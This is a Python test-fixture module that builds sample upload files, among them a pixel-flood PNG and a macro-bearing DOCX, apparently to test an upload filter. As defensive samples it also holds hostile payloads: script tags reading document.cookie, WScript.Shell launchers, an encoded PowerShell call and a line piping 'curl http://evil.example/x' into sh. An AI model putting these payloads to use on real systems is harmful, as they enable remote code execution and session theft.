"""Real-shaped files for upload tests, built in memory."""

import io
import zipfile

from PIL import Image


def png(size=(8, 8), color=(200, 30, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG")
    return out.getvalue()


def jpeg_with_exif() -> bytes:
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "SecretPhoneMaker"  # Make
    Image.new("RGB", (16, 16), (10, 20, 30)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def docx(*, macro: bool = False, entries: int = 3) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for i in range(entries - 2):
            archive.writestr(f"word/media/{i}.xml", "x")
        if macro:
            archive.writestr("word/vbaProject.bin", b"\x00" * 10)
    return out.getvalue()


WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
HTML_PAGE = b"<html><script>alert(document.cookie)</script></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.domain)</script><circle r='4'/></svg>"
)
HTA = b'<hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell")</script>'
BATCH = b"@echo off\r\npowershell -enc SQBFAFgA\r\n"
JAVASCRIPT = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
# The EICAR anti-virus test file: harmless, detected by every scanner (and tools/clamav).
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pixel_flood(size=(6300, 6300)) -> bytes:
    """The image of the finding: 40 MP of one colour, a 131 KB PNG that cost 0.8 s to check."""
    out = io.BytesIO()
    Image.new("RGB", size, (240, 240, 240)).save(out, "PNG", optimize=True)
    return out.getvalue()


def noisy_png(size=(64, 64)) -> bytes:
    """A photo-like image: every pixel different, so it compresses badly (as photos do)."""
    import os

    out = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(out, "PNG")
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    return out.getvalue()
